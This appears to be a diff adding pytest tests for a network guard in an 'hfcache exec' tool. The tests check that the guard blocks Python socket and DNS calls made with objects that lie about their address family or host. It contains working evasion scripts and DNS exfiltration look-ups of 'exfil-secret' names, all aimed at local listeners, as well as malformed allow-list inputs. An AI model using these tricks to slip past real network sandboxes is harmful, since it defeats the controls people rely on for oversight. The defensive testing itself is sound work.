@@ -1,0 +1,345 @@
+"""Trust, round three, fault 12: the exec guard reads C-level values, and ``--allow-host`` is one host.
+
+A child under ``hfcache exec`` builds each object that lies about itself - a ``socket.socket`` subclass whose
+``family`` property says ``AF_UNIX``, a ``tuple`` subclass whose ``__getitem__`` names an allowed host, a ``str``
+subclass whose ``__str__`` (and ``encode``, which the ``idna`` codec calls) says an allowed name - and aims it at a
+real TCP+UDP listener on 127.0.0.1 and, for DNS, at a real UDP nameserver on 127.0.0.1:53 (a private
+``/etc/resolv.conf`` in a mount namespace, as tests/integration/test_guard_dns.py does). Each gets ``NetworkBlocked``
+and the listeners see nothing; the same child without the guard reaches them, so every check can fail. An
+``--allow-host`` holding a separator is exit 2 before anything starts, and a child handed a malformed
+``HFCACHE_ALLOW_HOSTS`` allows nothing (it used to start unguarded).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import textwrap
+import threading
+from pathlib import Path
+
+import pytest
+
+from hfcache.offline import guard
+from hfcache.offline.guard import ENV_ALLOW_HOSTS, site_dir
+from tests.canary import Canary
+from tests.helpers import clean_env, run_hfcache
+from tests.integration.test_guard_listener import listener
+
+#: Every lie aimed at the listener's port; 127.0.0.2 is what the lies claim (exec allows it with --allow-host).
+LIARS = textwrap.dedent("""
+    import json, socket, sys
+    port = int(sys.argv[1])
+    target = ("127.0.0.1", port)
+    class UnixClaim(socket.socket):
+        @property
+        def family(self):
+            return socket.AF_UNIX
+    class AllowedTuple(tuple):
+        def __getitem__(self, i):
+            return ("127.0.0.2", port)[i]
+        def __len__(self):
+            return 2
+    class AllowedStr(str):
+        def __str__(self):
+            return "127.0.0.2"
+        def lower(self):
+            return "127.0.0.2"
+    class Port(int):
+        pass
+    def family_tcp():
+        s = UnixClaim(); s.connect(target); s.sendall(b"family-tcp")
+    def family_connect_ex():
+        s = UnixClaim(); s.connect_ex(target); s.sendall(b"family-connect-ex")
+    def family_udp_sendto():
+        UnixClaim(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"family-udp", target)
+    def family_udp_sendmsg():
+        UnixClaim(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"family-sendmsg"], [], 0, target)
+    def family_fastopen():
+        UnixClaim().sendmsg([b"family-fastopen"], [], socket.MSG_FASTOPEN, target)
+    def tuple_connect():
+        s = socket.socket(); s.connect(AllowedTuple(target)); s.sendall(b"tuple-connect")
+    def tuple_udp():
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"tuple-udp", AllowedTuple(target))
+    def str_connect():
+        s = socket.socket(); s.connect((AllowedStr("127.0.0.1"), port)); s.sendall(b"str-connect")
+    def str_udp():
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"str-udp", (AllowedStr("127.0.0.1"), port))
+    def int_port():
+        s = socket.socket(); s.connect(("127.0.0.1", Port(port))); s.sendall(b"int-port")
+    def fileno_claim():
+        fd = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).detach()
+        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM, 0, fileno=fd).sendto(b"fileno", "/nonexistent")
+    out = {}
+    for attempt in (family_tcp, family_connect_ex, family_udp_sendto, family_udp_sendmsg, family_fastopen,
+                    tuple_connect, tuple_udp, str_connect, str_udp, int_port, fileno_claim):
+        try:
+            attempt()
+            out[attempt.__name__] = "sent"
+        except Exception as exc:
+            out[attempt.__name__] = f"{type(exc).__name__}: {exc}"
+    print(json.dumps(out))
+""")
+
+#: Look-ups of a secret name through a str whose every Python-level answer says "localhost" (always resolvable).
+DNS_LIARS = textwrap.dedent("""
+    import json, socket
+    class Localhost(str):
+        def __str__(self):
+            return "localhost"
+        def lower(self):
+            return "localhost"
+        def encode(self, *args, **kwargs):
+            return str.encode(self, *args, **kwargs)
+    secret = "exfil-secret-{}.example"
+    tries = {
+        "getaddrinfo": lambda: socket.getaddrinfo(Localhost(secret.format(1)), 80),
+        "gethostbyname": lambda: socket.gethostbyname(Localhost(secret.format(2))),
+        "gethostbyname_ex": lambda: socket.gethostbyname_ex(Localhost(secret.format(3))),
+        "gethostbyaddr": lambda: socket.gethostbyaddr(Localhost(secret.format(4))),
+        "create_connection": lambda: socket.create_connection((Localhost(secret.format(5)), 80), timeout=3),
+        # Plain names, no lie: C resolves an address's name before the audit event (the guard checks first).
+        "connect_name": lambda: socket.socket().connect((secret.format(6), 80)),
+        "sendto_name": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (secret.format(7), 80)),
+        "sendmsg_name": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0,
+                                                                                          (secret.format(8), 80)),
+        "connect_ex_name": lambda: socket.socket().connect_ex((secret.format(9), 80)),
+    }
+    out = {}
+    for name, attempt in tries.items():
+        try:
+            attempt()
+            out[name] = "resolved"
+        except Exception as exc:
+            out[name] = f"{type(exc).__name__}: {exc}"
+    print(json.dumps(out))
+""")
+
+BLOCKED_TYPE = "NetworkBlocked: hfcache blocked a call with an argument of type"
+
+
+def _results(proc: subprocess.CompletedProcess[str]) -> dict[str, str]:
+    assert proc.returncode == 0, proc.stderr
+    return json.loads(proc.stdout.strip().splitlines()[-1])
+
+
+def test_objects_that_lie_about_themselves_are_refused_and_nothing_arrives(tmp_path):
+    canary = Canary(tmp_path)
+    with listener() as (port, arrivals):
+        proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", f"127.0.0.2:{port}",
+                            "--", sys.executable, "-c", LIARS, str(port)])
+        results = _results(proc)
+        threading.Event().wait(1.0)  # let late datagrams land
+        assert arrivals == [], (arrivals, results)
+    assert set(results) == {"family_tcp", "family_connect_ex", "family_udp_sendto", "family_udp_sendmsg",
+                            "family_fastopen", "tuple_connect", "tuple_udp", "str_connect", "str_udp", "int_port",
+                            "fileno_claim"}
+    for name in ("family_tcp", "family_connect_ex", "family_udp_sendto", "family_udp_sendmsg", "family_fastopen"):
+        assert results[name].startswith(f"NetworkBlocked: hfcache blocked a connection to 127.0.0.1:{port}:"), name
+    assert results["tuple_connect"].startswith(f"{BLOCKED_TYPE} AllowedTuple "), results
+    assert results["tuple_udp"].startswith(f"{BLOCKED_TYPE} AllowedTuple "), results
+    assert results["str_connect"].startswith(f"{BLOCKED_TYPE} AllowedStr "), results
+    assert results["str_udp"].startswith(f"{BLOCKED_TYPE} AllowedStr "), results
+    assert results["int_port"].startswith(f"{BLOCKED_TYPE} Port "), results
+    assert results["fileno_claim"].startswith("NetworkBlocked: hfcache blocked a socket of address family "
+                                              "AF_INET/AF_UNIX"), results
+    canary.assert_unchanged()
+
+
+def test_without_the_guard_the_same_lies_reach_the_listener(tmp_path):
+    """The control: every lie is a working send when nothing guards the child."""
+    with listener() as (port, arrivals):
+        results = _results(subprocess.run([sys.executable, "-c", LIARS, str(port)], capture_output=True, text=True,
+                                          env=clean_env(), timeout=60))
+        threading.Event().wait(1.0)
+    assert {k for k, v in results.items() if v == "sent"} >= {"family_tcp", "family_udp_sendto", "tuple_connect",
+                                                             "tuple_udp", "str_connect", "str_udp", "int_port"}
+    assert "tcp:b'tuple-connect'" in arrivals and "udp:b'str-udp'" in arrivals, arrivals
+
+
+def _with_nameserver(tmp_path: Path, argv: list[str]) -> tuple[subprocess.CompletedProcess[str], list[bytes]]:
+    """Run ``argv`` with /etc/resolv.conf naming a UDP listener on 127.0.0.1:53 that records every query."""
+    (tmp_path / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
+    (tmp_path / "hosts").write_text("127.0.0.1 localhost\n")
+    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    dns.bind(("127.0.0.1", 53))
+    dns.settimeout(0.2)
+    queries: list[bytes] = []
+    stop = threading.Event()
+
+    def record() -> None:
+        while not stop.is_set():
+            try:
+                queries.append(dns.recvfrom(4096)[0])  # never answered: the client times out
+            except OSError:
+                pass
+
+    thread = threading.Thread(target=record, daemon=True)
+    thread.start()
+    script = 'mount --bind "$1" /etc/resolv.conf && mount --bind "$2" /etc/hosts && shift 2 && exec "$@"'
+    try:
+        proc = subprocess.run(["unshare", "-m", "sh", "-c", script, "sh", str(tmp_path / "resolv.conf"),
+                               str(tmp_path / "hosts"), *argv], capture_output=True, text=True, env=clean_env(),
+                              timeout=120)
+        threading.Event().wait(1.0)
+    finally:
+        stop.set()
+        thread.join()
+        dns.close()
+    return proc, queries
+
+
+needs_unshare = pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None,
+                                   reason="needs root and unshare for a private /etc/resolv.conf")
+
+
+@needs_unshare
+def test_a_str_that_says_localhost_sends_no_dns_query(tmp_path):
+    canary = Canary(tmp_path)
+    guarded = [sys.executable, "-m", "hfcache", "exec", "--cache-dir", str(tmp_path / "cache"), "--"]
+    proc, queries = _with_nameserver(tmp_path, [*guarded, sys.executable, "-c", DNS_LIARS])
+    results = _results(proc)
+    assert queries == [], (queries, results)
+    lies = {"getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "create_connection"}
+    names = {"connect_name": 6, "sendto_name": 7, "sendmsg_name": 8, "connect_ex_name": 9}
+    assert set(results) == lies | set(names)
+    for name in lies:
+        assert results[name].startswith(f"{BLOCKED_TYPE} Localhost "), (name, results[name])
+    for name, n in names.items():
+        assert results[name].startswith(f"NetworkBlocked: hfcache blocked a connection to exfil-secret-{n}.example:80"
+                                        ": "), (name, results[name])
+    canary.assert_unchanged()
+
+
+@needs_unshare
+def test_without_the_guard_the_str_lie_queries_the_nameserver(tmp_path):
+    proc, queries = _with_nameserver(tmp_path, [sys.executable, "-c", DNS_LIARS])
+    _results(proc)
+    for n in (1, 6, 7):
+        assert any(f"exfil-secret-{n}".encode() in q for q in queries), (n, queries)
+
+
+@pytest.mark.parametrize("spec", ["redis,127.0.0.1", "redis 127.0.0.1", "redis;127.0.0.1", "redis\t", " redis",
+                                  "redis\n127.0.0.1", "user@redis", "redis/32", "[::1],127.0.0.1", "1234",
+                                  "redis:6379,127.0.0.1:6379", "r\u2028edis", "ex\u0430mple.org", "redis:",
+                                  "[1.2.3.4]"])
+def test_allow_host_must_be_exactly_one_host(tmp_path, spec):
+    canary = Canary(tmp_path)
+    marker = tmp_path / "started"
+    proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", spec, "--", sys.executable,
+                        "-c", f"open({str(marker)!r}, 'w').close()"])
+    assert proc.returncode == 2, proc.stderr
+    lines = proc.stderr.splitlines()
+    assert lines[0].startswith(f"hfcache: error: invalid {'port in' if spec == 'redis:' else 'host'} {spec!r}"), lines
+    assert "Traceback" not in proc.stderr and len(lines) <= 2, lines
+    assert not marker.exists()
+    canary.assert_unchanged()
+
+
+@pytest.mark.parametrize("value", ["127.0.0.1,bad host", " 127.0.0.1", "127.0.0.1,", "127.0.0.1,,redis",
+                                   "127.0.0.1;redis", "127.0.0.1\n"])
+def test_a_child_given_a_malformed_allow_list_allows_nothing(tmp_path, value):
+    """A parent (or a process that rewrote its environment) passes a malformed HFCACHE_ALLOW_HOSTS: the child's
+    guard is installed with nothing allowed and says so; it used to start unguarded (or to strip the entry)."""
+    canary = Canary(tmp_path)
+    child = ("import socket, sys\ntry:\n    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)"
+             ".sendall(b'through')\n    print('sent')\nexcept Exception as exc:\n    print(type(exc).__name__)")
+    with listener() as (port, arrivals):
+        env = clean_env(PYTHONPATH=site_dir(), **{ENV_ALLOW_HOSTS: value.replace("127.0.0.1", f"127.0.0.1:{port}")})
+        proc = subprocess.run([sys.executable, "-c", child, str(port)], capture_output=True, text=True, env=env,
+                              timeout=60)
+        threading.Event().wait(0.5)
+        assert arrivals == [], arrivals
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.strip() == "NetworkBlocked", proc.stdout
+    assert proc.stderr.startswith(f"hfcache: warning: {ENV_ALLOW_HOSTS} is malformed ("), proc.stderr
+    assert proc.stderr.endswith("the network guard allows no host\n") and proc.stderr.count("\n") == 1, proc.stderr
+    canary.assert_unchanged()
+
+
+def test_a_well_formed_allow_list_still_reaches_its_host(tmp_path):
+    """The control for the two above: one exact entry, passed by exec, is reached."""
+    child = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5).sendall(b'ok')"
+    with listener() as (port, arrivals):
+        proc = run_hfcache(["exec", "--cache-dir", str(tmp_path / "cache"), "--allow-host", f"127.0.0.1:{port}",
+                            "--allow-host", "redis:6379", "--", sys.executable, "-c", child, str(port)])
+        threading.Event().wait(0.5)
+        assert proc.returncode == 0, proc.stderr
+        assert arrivals == ["tcp:b'ok'"], arrivals
+
+
+# ------------------------------------------------------------------------------ the rules, without a child
+
+
+@pytest.mark.parametrize("spec, host, port", [
+    ("redis", "redis", None), ("my_service_1:6379", "my_service_1", 6379),
+    ("Mirror.Internal.:443", "mirror.internal", 443),
+    ("10.0.0.1:80", "10.0.0.1", 80), ("[fe80::1%eth0]:80", "fe80::1", 80), ("::1", "::1", None),
+    ("[::ffff:127.0.0.1]", "127.0.0.1", None),
+])
+def test_one_host_entries_still_parse(spec, host, port):
+    entry = guard.parse_allow_host(spec)
+    assert (entry.host, entry.port) == (host, port)
+    assert guard.hosts_from_environ({ENV_ALLOW_HOSTS: guard.format_allow_hosts([entry])}) == (entry,)
+
+
+@pytest.mark.parametrize("value", ["a,,b", ",a", "a,", " a", "a ,b", "a;b", "a,b c", "a,\u2028b"])
+def test_a_malformed_environment_value_raises_instead_of_being_split_some_other_way(value):
+    with pytest.raises(ValueError):
+        guard.hosts_from_environ({ENV_ALLOW_HOSTS: value})
+    assert guard.hosts_from_environ({ENV_ALLOW_HOSTS: ""}) == ()
+
+
+def test_the_hook_refuses_subclasses_at_every_event():
+    g = guard.Guard()
+    g.allow(["localhost", "127.0.0.2"])
+    g.enforce()
+
+    class Str(str):
+        def __str__(self):
+            return "localhost"
+
+    class Tup(tuple):
+        pass
+
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        events = [("socket.connect", (sock, Tup(("127.0.0.2", 9)))),
+                  ("socket.sendto", (sock, (Str("127.0.0.2"), 9))),
+                  ("socket.sendmsg", (sock, ("127.0.0.2", True))),
+                  ("socket.getaddrinfo", (Str("x.example"), 80, 0, 0, 0, 0)),
+                  ("socket.getaddrinfo", ("localhost", Str("80"), 0, 0, 0, 0)),
+                  ("socket.gethostbyname", (Str("x.example"),)),
+                  ("socket.gethostbyaddr", (Str("x.example"),)),
+                  ("socket.getnameinfo", (Tup(("127.0.0.1", 80)),)),
+                  ("socket.getnameinfo", ((Str("127.0.0.1"), 80),))]
+        for event, args in events:
+            with pytest.raises(guard.NetworkBlocked, match="call with an argument of type (Str|Tup|bool) "):
+                g.hook(event, args)
+        g.hook("socket.connect", (sock, ("127.0.0.2", 9)))  # plain values: checked, allowed
+        g.hook("socket.getaddrinfo", ("localhost", 80, 0, 0, 0, 0))
+        g.hook("socket.getnameinfo", (("127.0.0.1", 80),))
+    finally:
+        sock.close()
+
+
+def test_a_refused_name_is_reported_on_one_line_and_entries_are_reparsed():
+    g = guard.Guard()
+    g.enforce()
+    with pytest.raises(guard.NetworkBlocked) as refused:
+        g.hook("socket.getaddrinfo", ("a\nb\x1b[2J.example", 80, 0, 0, 0, 0))
+    assert "\n" not in str(refused.value) and "\x1b" not in str(refused.value)
+    assert g.attempts == ["a\\nb\\x1b[2J.example"]
+
+    class Liar:
+        def __str__(self):
+            return "redis,127.0.0.1"
+
+    with pytest.raises(ValueError, match="invalid host"):
+        g.allow([Liar()])
+    g.allow([guard.AllowedHost("10.0.0.1", 80)])
+    assert g.allowed == (guard.parse_allow_host("10.0.0.1:80"),)
